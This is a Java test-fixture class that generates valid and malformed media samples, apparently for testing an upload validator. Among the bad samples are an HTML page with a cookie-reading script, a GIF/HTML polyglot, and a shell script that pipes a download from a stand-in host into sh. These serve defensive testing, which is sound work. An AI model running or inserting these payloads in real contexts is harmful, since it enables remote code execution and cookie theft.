package herald.assets;

import java.awt.Color;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Base64;
import java.util.Random;
import javax.imageio.ImageIO;

/** Small media files made in the test, good and bad, so no test depends on files checked in. */
public final class SampleMedia {

    /** A 1×1 lossless WebP. */
    private static final String WEBP = "UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==";

    private SampleMedia() {}

    public static byte[] jpeg(int width, int height) {
        return image("jpg", width, height, BufferedImage.TYPE_INT_RGB, 0);
    }

    public static byte[] png(int width, int height) {
        return image("png", width, height, BufferedImage.TYPE_INT_ARGB, 0);
    }

    /** A PNG of random pixels: incompressible, so about {@code 3 × width × height} bytes. */
    public static byte[] noisyPng(int width, int height, long seed) {
        return image("png", width, height, BufferedImage.TYPE_INT_RGB, seed);
    }

    public static byte[] gif(int width, int height) {
        return image("gif", width, height, BufferedImage.TYPE_INT_RGB, 0);
    }

    public static byte[] webp() {
        return Base64.getDecoder().decode(WEBP);
    }

    /** An MP4 (ISO brand) whose movie header says 2.5 seconds. */
    public static byte[] mp4() {
        return movie("isom");
    }

    /** A QuickTime movie whose header says 2.5 seconds. */
    public static byte[] mov() {
        return movie("qt  ");
    }

    public static byte[] html() {
        return "<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
                .getBytes(StandardCharsets.UTF_8);
    }

    public static byte[] shellScript() {
        return "#!/bin/sh\ncurl http://example.invalid/x | sh\n".getBytes(StandardCharsets.UTF_8);
    }

    public static byte[] pdf() {
        return "%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
                .getBytes(StandardCharsets.US_ASCII);
    }

    /** A valid GIF header and image followed by an HTML page: a browser sniffing it might run the script. */
    public static byte[] polyglotGifHtml() {
        return concat(gif(8, 8), "<html><script>alert(1)</script></html>".getBytes(StandardCharsets.US_ASCII));
    }

    /** A JPEG with a ZIP archive appended after its end marker (a "JPEG + ZIP" polyglot). */
    public static byte[] polyglotJpegZip() {
        byte[] zip = {'P', 'K', 3, 4, 20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0};
        return concat(jpeg(16, 16), zip);
    }

    public static byte[] truncated(byte[] file) {
        return Arrays.copyOf(file, file.length / 2);
    }

    private static byte[] image(String format, int width, int height, int type, long seed) {
        var image = new BufferedImage(width, height, type);
        var random = new Random(seed);
        for (int x = 0; x < width; x++) {
            for (int y = 0; y < height; y++) {
                int rgb = seed == 0 ? new Color(x * 255 / width, y * 255 / height, 120).getRGB() : random.nextInt();
                image.setRGB(x, y, rgb | 0xFF000000);
            }
        }
        var out = new ByteArrayOutputStream();
        try {
            if (!ImageIO.write(image, format, out)) {
                throw new IllegalStateException("No ImageIO writer for " + format);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] movie(String brand) {
        ByteBuffer ftyp = ByteBuffer.allocate(24);
        ftyp.putInt(24)
                .put(ascii("ftyp"))
                .put(ascii(brand))
                .putInt(0x200)
                .put(ascii(brand))
                .put(ascii("mp41"));
        ByteBuffer mvhd = ByteBuffer.allocate(108);
        mvhd.putInt(108).put(ascii("mvhd")).putInt(0); // version 0, no flags
        mvhd.putInt(0).putInt(0); // creation, modification
        mvhd.putInt(1000).putInt(2500); // timescale, duration: 2.5 s
        mvhd.putInt(0x00010000).putShort((short) 0x0100).put(new byte[10]); // rate, volume, reserved
        int[] matrix = {0x00010000, 0, 0, 0, 0x00010000, 0, 0, 0, 0x40000000};
        for (int m : matrix) {
            mvhd.putInt(m);
        }
        mvhd.put(new byte[24]).putInt(2); // pre-defined, next track id
        ByteBuffer moov = ByteBuffer.allocate(8 + 108);
        moov.putInt(116).put(ascii("moov")).put(mvhd.array());
        ByteBuffer mdat = ByteBuffer.allocate(8 + 32);
        mdat.putInt(40).put(ascii("mdat"));
        return concat(ftyp.array(), moov.array(), mdat.array());
    }

    private static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.US_ASCII);
    }

    public static byte[] concat(byte[]... parts) {
        var out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }
}
